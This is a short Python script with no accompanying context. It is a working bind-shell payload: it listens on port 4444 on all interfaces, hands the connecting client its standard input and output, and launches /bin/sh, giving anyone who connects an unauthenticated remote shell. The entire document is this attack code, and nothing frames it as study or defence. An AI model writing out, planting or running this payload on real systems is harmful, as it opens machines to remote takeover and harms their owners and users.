import socket,os
s=socket.socket();s.bind(('0.0.0.0',4444));s.listen(1)
c,a=s.accept()
[os.dup2(c.fileno(),i) for i in range(3)]
os.system('/bin/sh')
